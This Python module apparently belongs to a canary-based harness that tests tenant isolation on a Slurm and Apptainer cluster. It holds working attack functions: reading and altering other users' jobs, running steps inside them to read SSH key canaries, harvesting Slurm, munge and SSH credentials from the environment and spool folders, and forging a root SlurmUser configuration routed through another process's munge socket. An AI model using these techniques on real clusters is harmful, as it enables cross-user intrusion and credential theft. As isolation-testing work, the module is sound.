"""Attacks by programs brought along: Slurm's and Apptainer's own, with their libraries and a copied configuration."""

import os
import subprocess
from collections.abc import Iterator, Sequence
from pathlib import Path

from .loot import canaries_below, canaries_in, tried
from .orders import Orders, attack

SECONDS = 4


@attack
def queue_of_slurm(orders: Orders) -> Iterator[str]:
    """squeue: whose jobs there are."""
    for answer in answers(orders, "squeue", "-h", "-o", "%i %j %k"):
        yield from (job for job in orders.others if job in answer)


@attack
def details_of_slurm(orders: Orders) -> Iterator[str]:
    """scontrol: a job's script, and its environment."""
    for slurm_job in orders.slurm_jobs:
        for answer in answers(orders, "scontrol", "write", "batch_script", slurm_job, "-"):
            yield from (job for job in orders.others if job in answer)


@attack
def submission_to_slurm(orders: Orders) -> Iterator[str]:
    """sbatch: a job of one's own on the host, which leaves a mark."""
    mark = f"{orders.home}/{orders.mark('submission_to_slurm')}"
    for answer in answers(orders, "sbatch", "--parsable", "--output=/dev/null", "--mem=10", f"--wrap=touch {mark}"):
        if answer.strip():
            yield f"job {answer.strip()} is submitted"


@attack
def steps_of_slurm(orders: Orders) -> Iterator[str]:
    """srun: a step inside another's job, on the host."""
    for slurm_job in orders.slurm_jobs:
        command = ("srun", "--overlap", f"--jobid={slurm_job}", "--mem=0", "cat", f"{orders.home}/.ssh/id_canary")
        for answer in answers(orders, *command):
            yield from canaries_in(answer.encode())


@attack
def changes_in_slurm(orders: Orders) -> Iterator[str]:
    """scontrol and scancel: another's job renamed, and signalled."""
    for slurm_job in orders.slurm_jobs:
        for command in (
            ("scontrol", "-v", "update", f"jobid={slurm_job}", f"admincomment={orders.mark('changes')}"),
            ("scancel", "--verbose", "--signal=CONT", slurm_job),
        ):
            for _ in answers(orders, *command):
                yield f"{command[0]} of {slurm_job}"


@attack
def variables_of_slurm(orders: Orders) -> Iterator[str]:
    """Slurm's and Apptainer's variables that the run was given, credentials above all."""
    for name, value in os.environ.items():
        if name not in orders.values and name.startswith(
            ("SLURM_", "SBATCH_", "SRUN_", "MUNGE", "APPTAINERENV_", "SINGULARITYENV_", "SSH_")
        ):
            yield f"{name}={value[:40]}"


@attack
def configuration_of_slurm(orders: Orders) -> Iterator[str]:
    """Keys and spooled scripts where the daemons keep them."""
    folders = ("/etc/munge", "/var/spool/slurmctld", "/var/spool/slurmd-n1", "/var/spool/slurmd-n2", "/etc/slurm")
    for folder in folders:
        with tried(f"list {folder}"):
            yield from (f"{folder}/{name}" for name in os.listdir(folder))


@attack
def apptainer_brought_along(orders: Orders) -> Iterator[str]:
    """Apptainer's own program: what its container can bind."""
    bind = f"{orders.home}:/media"
    command = ("apptainer", "exec", "--bind", bind, "/opt/packtrain/llamafactory.sif", "cat", "/media/.ssh/id_canary")
    for answer in answers(orders, *command):
        yield from canaries_in(answer.encode())


@attack
def apptainer_folders(orders: Orders) -> Iterator[str]:
    """Apptainer's own folders: sessions, instances, caches and remote tokens."""
    yield from canaries_below(f"{orders.home}/.apptainer", "/.singularity.d", "/var/lib/apptainer", "/run/apptainer")


def answers(orders: Orders, program: str, *arguments: str) -> Iterator[str]:
    """What a program said that succeeded, by the host's way and with munge's socket through other processes."""
    for socket_path in munge_sockets():
        done = run_tool(orders, socket_path, program, arguments)
        with tried(f"{program} by {socket_path}"):
            if done.returncode != 0:
                raise OSError(done.stderr.strip()[-120:])
            yield done.stdout


def munge_sockets() -> Iterator[str]:
    """Munge's socket at its own place, and beside other processes where one can be reached."""
    yield "/run/munge/munge.socket.2"
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        path = f"/proc/{pid}/root/run/munge/munge.socket.2"
        if os.path.exists(path):
            yield path
            return


def run_tool(
    orders: Orders, socket_path: str, program: str, arguments: Sequence[str]
) -> "subprocess.CompletedProcess[str]":
    """A program of the host by the host's own loader: the image's C library may be older."""
    tools = Path(orders.tools)
    configuration = Path(orders.output, f"slurm.{os.getpid()}.conf")
    text = (tools / "slurm.conf").read_text(encoding="utf-8").replace("SlurmUser=slurm", "SlurmUser=root")
    configuration.write_text(f"{text}\nPluginDir={tools}/plugins\nAuthInfo=socket={socket_path}\n", encoding="utf-8")
    environment = {"SLURM_CONF": str(configuration), "PATH": "/usr/bin:/bin", "HOME": "/tmp"}
    command = [f"{tools}/ld.so", "--library-path", f"{tools}/lib", f"{tools}/bin/{program}", *arguments]
    try:
        return subprocess.run(
            command, capture_output=True, text=True, check=False, timeout=SECONDS, env=environment, errors="replace"
        )
    except subprocess.TimeoutExpired:
        return subprocess.CompletedProcess(command, 124, "", "no answer in time")
